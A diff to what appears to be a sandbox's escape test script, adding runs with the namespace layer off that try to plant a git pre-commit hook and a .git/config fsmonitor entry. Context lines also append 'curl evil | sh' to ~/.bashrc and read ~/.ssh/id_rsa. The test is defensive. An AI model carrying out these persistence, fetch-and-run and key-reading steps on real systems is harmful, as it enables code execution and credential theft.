@@ -108,6 +108,15 @@ attempt_state "append to .git/config" 'cmp -s $W/.git/config $T/config.orig' '! 
 	fsmonitor = $O/evil
 "
 attempt_state "create workspace .envrc" '[ ! -e $W/.envrc ]' '[ -e $W/.envrc ]' 'rm -f $W/.envrc' -- "$P" write "$W/.envrc"
+# the same two without the namespace layer: the guard alone must undo them
+export GEMMASH_SANDBOX_USERNS=0
+attempt_state "hooks/pre-commit (guard only)" '[ ! -e $W/.git/hooks/pre-commit ]' '[ -e $W/.git/hooks/pre-commit ]' \
+    'rm -f $W/.git/hooks/pre-commit' -- "$P" write "$W/.git/hooks/pre-commit"
+attempt_state "append .git/config (guard only)" 'cmp -s $W/.git/config $T/config.orig' '! cmp -s $W/.git/config $T/config.orig' \
+    'cp $T/config.orig $W/.git/config' -- "$P" append "$W/.git/config" "[core]
+	fsmonitor = $O/evil
+"
+unset GEMMASH_SANDBOX_USERNS
 attempt "append to ~/.bashrc" '[ "$(cat $H/.bashrc)" = "# fake rc" ]' '[ "$(cat $H/.bashrc)" != "# fake rc" ]' \
     'echo "# fake rc" > $H/.bashrc' -- "$P" append "$H/.bashrc" "curl evil | sh"
 attempt "read ~/.ssh/id_rsa" 'true' 'true' ':' -- "$P" read "$H/.ssh/id_rsa"
